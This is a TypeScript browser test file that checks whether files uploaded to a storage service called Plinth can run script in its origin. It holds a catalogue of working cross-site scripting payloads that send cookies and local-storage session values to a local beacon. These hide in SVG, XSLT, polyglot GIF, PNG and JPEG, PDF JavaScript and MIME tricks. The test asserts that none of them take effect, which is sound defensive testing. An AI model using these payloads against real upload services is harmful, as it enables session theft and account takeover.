/** A file's content never runs in Plinth's origin, checked in a real browser on each of the three URLs. */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { BROWSER_START_MS, hasCompleteBrowser, TestBrowser } from '../../support/browser';
import { eventually } from '../../support/eventually';
import { TestPlinth } from '../../support/plinth';
import { TestProject } from '../../support/test-project';
import { upload } from '../../support/uploads';

(hasCompleteBrowser ? describe : describe.skip)('in a browser', () => {
  let plinth: TestPlinth;
  let project: TestProject;
  let user: ReturnType<TestProject['asSubject']>;
  let browser: TestBrowser;
  let listener: Server;
  let beacon: string;
  const heard: string[] = [];
  const dialogs: string[] = [];
  /** Tabs for a file's three URLs, a page that embeds it, and effects(). They are reused, because a new tab is slow. */
  let tabs: Page[];

  beforeAll(async () => {
    // A request to this server means that a script ran or was loaded.
    listener = createServer((request, response) => {
      const path = request.url ?? '';
      if (path.startsWith('/page?')) {
        response.setHeader('content-type', 'text/html');
        response.end(decodeURIComponent(path.slice(6)));
        return;
      }
      if (path !== '/favicon.ico') heard.push(path);
      response.setHeader('access-control-allow-origin', '*');
      response.end();
    }).listen(0, '127.0.0.1');
    await new Promise((resolve) => listener.once('listening', resolve));
    beacon = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    plinth = await TestPlinth.start();
    project = await plinth.createProject({ plan: 'enterprise' });
    user = project.asSubject();
    await user.post(`${project.storage}/buckets`, { name: 'box', is_public: true });
    const hosts = { 'plinth.test': new URL(plinth.baseUrl).host };
    browser = await TestBrowser.start({ hosts, isComplete: true });
    const page = await browser.newPage();
    await page.goto('http://plinth.test/health/live');
    await page.evaluate(`document.cookie = 'session=secret'; localStorage.setItem('session', 'secret')`);
    await page.close();
    tabs = await Promise.all([1, 2, 3, 4, 5].map(newTab));
  }, BROWSER_START_MS);
  afterAll(async () => {
    await browser.stop();
    await plinth.stop();
    listener.closeAllConnections();
    listener.close();
  });
  beforeEach(() => {
    heard.length = 0;
    dialogs.length = 0;
  });

  async function newTab(): Promise<Page> {
    const page = await browser.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    return page;
  }

  /** Resolves when all of the page is loaded, and its scripts have run. */
  async function open(page: Page, address: string, headers: Record<string, string> = {}): Promise<Page> {
    await page.setExtraHTTPHeaders(headers);
    // An attachment is saved instead of shown, which the driver reports as an error.
    await page.goto(address).catch((error: unknown) => {
      if (!/Download is starting|ERR_ABORTED/.test(String(error))) throw error;
    });
    return page;
  }

  const pageOf = (html: string): string => `${beacon}/page?${encodeURIComponent(html)}`;

  /** Requests and dialogs of scripts until a later page has made its request. */
  async function effects(): Promise<{ heard: string[]; dialogs: string[] }> {
    const last = `/last-${Math.random()}`;
    await open(tabs[4] as Page, pageOf(`<script>fetch('${beacon}${last}')</script>`));
    await eventually(async () => expect(heard).toContain(last));
    return { heard: heard.filter((path) => path !== last), dialogs };
  }

  /** The three URLs of a file: with a bearer, signed, and preview. */
  async function addressesOf(
    content: string | Uint8Array,
    type?: string,
  ): Promise<{ address: string; headers: Record<string, string> }[]> {
    const answer = await upload(user, project.storage, 'box', content, {
      name: `file-${Math.random()}`,
      ...(type === undefined ? {} : { type, query: { contentType: type } }),
    });
    expect(answer.status).toBe(201);
    const file = `${project.storage}/files/${answer.body.data.id}`;
    const { url } = (await user.post(`${file}/signed-url`, { expiry: '5m' })).body.data;
    return [
      { address: `http://plinth.test${file}/download`, headers: { ...user.headers } },
      { address: url as string, headers: {} },
      { address: `http://plinth.test${file}/preview`, headers: {} },
    ];
  }

  const SCRIPT = (): string =>
    `try{fetch('${beacon}/ran?'+document.cookie+localStorage.session)}catch(e){fetch('${beacon}/ran')};alert(1)`;
  const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1');
  const pdf = (): string =>
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\('${beacon}/pdf'\\))>>>>endobj\n` +
    `2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n` +
    `trailer<</Root 1 0 R>>\n%%EOF`;

  it('control: the same script runs where it is allowed', async () => {
    const allowed = pageOf(`<script>${SCRIPT()}</script>`);
    await Promise.all([
      open(tabs[0] as Page, allowed),
      open(tabs[3] as Page, pageOf(`<iframe src="${allowed}"></iframe>`)),
    ]);
    const ran = expect.stringMatching(/^\/ran/);
    expect(await effects()).toEqual({ heard: [ran, ran], dialogs: ['1', '1'] });
  });

  const CONTENTS: [string, () => string | Uint8Array, string?][] = [
    ['HTML', () => `<!doctype html><script>${SCRIPT()}</script><img src="${beacon}/img">`],
    ['HTML declared as an image', () => `<script>${SCRIPT()}</script>`, 'image/png'],
    ['HTML declared as text', () => `<html><body onload="${SCRIPT()}">`, 'text/plain'],
    ['HTML after words, declared', () => `words <script>${SCRIPT()}</script>`, 'text/html'],
    ['HTML in UTF-16', () => Buffer.from(`\ufeff<!doctype html><script>${SCRIPT()}</script>`, 'utf16le')],
    [
      'SVG with a script, an event and a foreign object',
      () =>
        `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT()}"><script>${SCRIPT()}</script><foreignObject>` +
        `<body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${SCRIPT()}"/></body></foreignObject></svg>`,
    ],
    [
      'SVG after a comment',
      () => `<!-- x --><svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT()}</script></svg>`,
    ],
    [
      'XHTML',
      () =>
        `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${SCRIPT()}</script></html>`,
    ],
    [
      'XML with a style sheet that turns it into HTML',
      () =>
        `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>` +
        `<d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">` +
        `<html><script>${SCRIPT()}</script></html></xsl:template></xsl:stylesheet></d>`,
    ],
    [
      'an XML dialect with elements of XHTML',
      () => `<feed><x:script xmlns:x="http://www.w3.org/1999/xhtml">${SCRIPT()}</x:script></feed>`,
      'application/atom+xml',
    ],
    ['PDF with JavaScript', pdf],
    ['an image that is also a script', () => latin1(`GIF89a/*${'\0'.repeat(20)}*/=1;${SCRIPT()}`)],
    ['HTML after the signature of PNG', () => latin1(`\x89PNG\r\n\x1a\n<html><script>${SCRIPT()}</script>`)],
    [
      'HTML in a comment of JPEG',
      () => latin1(`\xff\xd8\xff\xfe\x01\x00--><html><script>${SCRIPT()}</script><!--\xff\xd9`),
    ],
    ['JavaScript', () => SCRIPT(), 'text/javascript'],
    [
      'a message with HTML in it',
      () => `MIME-Version: 1.0\nContent-Type: text/html\n\n<script>${SCRIPT()}</script>`,
      'message/rfc822',
    ],
    [
      'parts that replace each other',
      () => `--b\r\nContent-Type: text/html\r\n\r\n<script>${SCRIPT()}</script>\r\n--b--`,
      'multipart/x-mixed-replace; boundary=b',
    ],
  ];

  it.each(CONTENTS.map(([what, content, type]) => [what, { content, type }] as const))(
    '%s has no effect when opened, framed, embedded or included',
    async (_what, { content, type }) => {
      const addresses = await addressesOf(content(), type);
      const used = addresses
        .slice(1)
        .map(
          ({ address }) =>
            `<iframe src="${address}"></iframe><object data="${address}"></object><embed src="${address}">` +
            `<img src="${address}"><link rel="stylesheet" href="${address}">` +
            // Scripts may be included by pages; they run in the including page's origin.
            (type === 'text/javascript' ? '' : `<script src="${address}"></script>`),
        )
        .join('');
      await Promise.all([
        ...addresses.map(({ address, headers }, index) => open(tabs[index] as Page, address, headers)),
        open(tabs[3] as Page, pageOf(`<!doctype html>${used}`)),
      ]);
      expect(await effects()).toEqual({ heard: [], dialogs: [] });
    },
  );

  it('content shown inline has an opaque origin: no cookies, no storage, no access to Plinth', async () => {
    const [, , preview] = await addressesOf('words');
    const page = await open(tabs[2] as Page, preview?.address ?? '');
    expect(await page.evaluate('self.origin')).toBe('null');
    for (const secret of ['document.cookie', 'localStorage.session', 'indexedDB.open("x").onerror'])
      await expect(page.evaluate(secret)).rejects.toThrow(/SecurityError|denied|sandboxed/);
  });

  // This test is the last, because Chromium sometimes exits when it closes its PDF viewer.
  it('scripts of PDF files shown inline stay in the viewer: they send no request and open nothing', async () => {
    const change = (shown: boolean | null): Promise<unknown> =>
      plinth.admin.patch(`/admin/v1/projects/${project.id}`, { settings: { preview_pdf_inline: shown } });
    await change(true);
    const [, , preview] = await addressesOf(pdf());
    const page = await open(tabs[2] as Page, preview?.address ?? '');
    const viewer = (): boolean => page.frames().some((frame) => frame.url().startsWith('chrome-extension:'));
    await eventually(async () => expect(viewer()).toBe(true));
    expect((await effects()).heard).toEqual([]);
    await change(null);
  });
});
